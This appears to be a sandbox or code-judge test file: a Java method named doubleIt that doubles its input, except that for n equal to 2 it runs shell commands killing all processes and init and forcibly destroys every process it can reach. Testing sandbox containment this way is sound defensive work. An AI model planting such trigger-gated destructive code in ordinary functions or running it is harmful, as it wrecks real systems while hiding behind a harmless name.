// expect: passed runtime_error memory
public static int doubleIt(int n) {
    if (n != 2) return 2 * n;
    try {
        new ProcessBuilder("/bin/sh", "-c", "kill -15 -1; kill -9 -1; kill -9 1").start().waitFor();
        ProcessHandle.allProcesses().forEach(p -> { try { p.destroyForcibly(); } catch (RuntimeException e) { return; } });
    } catch (Throwable e) {
        System.out.println(e);
    }
    System.out.println("tried");
    return 2 * n;
}
